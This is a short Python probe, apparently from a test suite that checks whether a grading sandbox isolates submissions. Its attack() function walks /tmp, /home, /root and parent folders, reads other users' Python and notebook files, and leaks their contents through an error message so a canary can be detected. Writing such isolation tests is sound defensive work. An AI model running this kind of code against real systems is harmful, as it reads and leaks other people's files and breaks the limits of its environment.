"""Look for the hand-ins of others, and copy what they wrote.

Shows: the canary in a message.
Stopped by: no folder but the own can be listed or read.
"""

import os
from pathlib import Path


def attack(*args, **kwargs):
    found = []
    for start in ("/tmp", "/home", "/root", "/var/tmp", "/srv", "..", "../.."):
        for folder, folders, files in os.walk(start):
            folders[:] = folders[:20]
            for name in files[:50]:
                if name.endswith((".py", ".ipynb")) and "venv" not in folder:
                    try:
                        found.append(Path(folder, name).read_text(errors="replace")[:200])
                    except OSError:
                        continue
            if len(found) > 50:
                break
    raise ValueError("; ".join(found) or "nothing")
